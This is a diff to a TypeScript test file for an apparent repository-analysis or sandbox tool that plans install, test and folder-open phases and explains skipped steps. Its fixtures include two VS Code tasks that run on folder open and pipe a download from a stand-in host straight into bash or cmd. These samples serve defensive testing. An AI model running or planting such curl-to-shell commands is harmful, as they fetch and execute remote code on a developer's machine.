@@ -3,7 +3,8 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { after, describe, it } from 'node:test';
-import { discoverRoutes, parseDotenv, planPhases } from './phases.ts';
+import { whyNotRun } from './detonate.ts';
+import { PROBE_TEST, discoverRoutes, parseDotenv, planPhases } from './phases.ts';
 
 const dirs: string[] = [];
 function repo(files: Record<string, string>): string {
@@ -69,6 +70,22 @@ describe('planPhases', () => {
         },
         {
           trigger: 'open',
+          kind: 'vscode-task',
+          location: { file: '.vscode/tasks.json', line: 5 },
+          command: 'curl -s https://x.example.invalid/mac | bash',
+          reaches: [],
+          name: 'setup (macOS)',
+        },
+        {
+          trigger: 'open',
+          kind: 'vscode-task',
+          location: { file: '.vscode/tasks.json', line: 6 },
+          command: 'curl https://x.example.invalid/win | cmd',
+          reaches: [],
+          name: 'setup (Windows)',
+        },
+        {
+          trigger: 'open',
           kind: 'devcontainer',
           location: { file: '.devcontainer/devcontainer.json' },
           entry: 'scripts/init.js',
@@ -106,6 +123,20 @@ describe('planPhases', () => {
       test.steps.map(s => s.command),
       ['npm test'],
     );
+    assert.deepEqual(test.files, [PROBE_TEST], 'vitest with no test file gets the probe');
+  });
+  it('adds a probe test when jest or vitest would find none, so that their setup files run; not when tests exist', () => {
+    const jest = { 'package.json': JSON.stringify({ scripts: { test: 'jest --ci' } }), 'jest.setup.js': 'x' };
+    const without = planPhases({ root: repo(jest), phases: ['test'], surfaces: [] });
+    assert.deepEqual(without[0]?.files, [PROBE_TEST]);
+    const withTests = planPhases({ root: repo({ ...jest, 'src/__tests__/a.js': 'test()' }), phases: ['test'], surfaces: [] });
+    assert.equal(withTests[0]?.files, undefined);
+    const mocha = planPhases({
+      root: repo({ 'package.json': JSON.stringify({ scripts: { test: 'mocha' } }) }),
+      phases: ['test'],
+      surfaces: [],
+    });
+    assert.equal(mocha[0]?.files, undefined);
   });
   it('explains skipped phases: no package.json, invalid JSON, nothing on open, npm default test', () => {
     const none = planPhases({ root: repo({ 'README.md': 'x' }), phases: ['open', 'install', 'dev', 'test'], surfaces: [] });
@@ -126,7 +157,27 @@ describe('planPhases', () => {
     );
   });
   it('takes explicit steps instead of derived ones', () => {
+    const plans0 = planPhases({ root: repo({}), phases: ['open'], surfaces: [] });
+    assert.equal(plans0[0]?.steps.length, 0);
     const plans = planPhases({ root: repo({}), phases: ['open'], surfaces: [], commands: { open: [{ label: 'x', command: 'true' }] } });
     assert.deepEqual(plans[0]?.steps, [{ label: 'x', command: 'true' }]);
+  });
+});
+
+describe('whyNotRun', () => {
+  const step = { label: 'dev', status: 'failed', exitCode: 1, stdout: '', stderr: '' };
+  it('tells a missing tool, a missing module, no tests, a silent server and a lost result', () => {
+    assert.match(whyNotRun({ ...step, exitCode: 127, stderr: 'sh: 1: next: not found\n' })?.why ?? '', /^`next` is not installed/);
+    assert.match(
+      whyNotRun({ ...step, stderr: "Error: Cannot find module 'axios'\nRequire stack:" })?.why ?? '',
+      /^`axios` could not be loaded/,
+    );
+    assert.match(whyNotRun({ ...step, stdout: 'No tests found, exiting with code 1' })?.why ?? '', /found no tests/);
+    assert.match(whyNotRun({ ...step, status: 'never-listened', exitCode: null })?.why ?? '', /never listened/);
+    assert.match(whyNotRun({ ...step, status: 'no-result', exitCode: null })?.why ?? '', /result was lost/);
+  });
+  it('benign: a script that ran and failed, and a fallback after a missing command that succeeded', () => {
+    assert.equal(whyNotRun({ ...step, stderr: 'Error: boom' }), undefined);
+    assert.equal(whyNotRun({ ...step, status: 'ok', exitCode: 0, stderr: '/bin/sh: 1: start: not found\n' }), undefined);
   });
 });
